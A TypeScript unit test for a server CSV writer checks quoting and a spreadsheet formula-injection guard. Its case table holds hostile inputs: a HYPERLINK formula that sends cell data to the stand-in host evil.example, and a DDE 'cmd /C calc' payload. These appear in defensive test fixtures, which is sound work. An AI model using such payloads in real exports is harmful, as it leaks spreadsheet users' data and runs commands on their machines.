import { describe, expect, it } from 'vitest';
import { csvCell } from '../reports/csv';

/**
 * The CSV cell cases, the same table in both specs (libs/alerting/src/audit/csv-formula-guard.spec.ts
 * for the server's csvCell, apps/dashboard/src/views/shared/csv.spec.ts for the dashboard's): the
 * two writers must agree, the formula guard above all.
 */
const CELL_CASES: readonly (readonly [string | number | null, string])[] = [
  ['雁塔区第一小学', '雁塔区第一小学'],
  [42, '42'],
  [-1.5, '-1.5'],
  [null, ''],
  ['', ''],
  ['a=b', 'a=b'],
  ['西安市,雁塔区', '"西安市,雁塔区"'],
  ['他说"好"', '"他说""好"""'],
  ['第一行\n第二行', '"第一行\n第二行"'],
  [' 前导空格', '" 前导空格"'],
  ['=1+1', "'=1+1"],
  ['+86 138', "'+86 138"],
  ['-x', "'-x"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tcmd', "'\tcmd"],
  ['\rcmd', '"\'\rcmd"'],
  ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
];

describe('the server CSV writer (reports, audit log)', () => {
  it.each(CELL_CASES)('%j → %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});
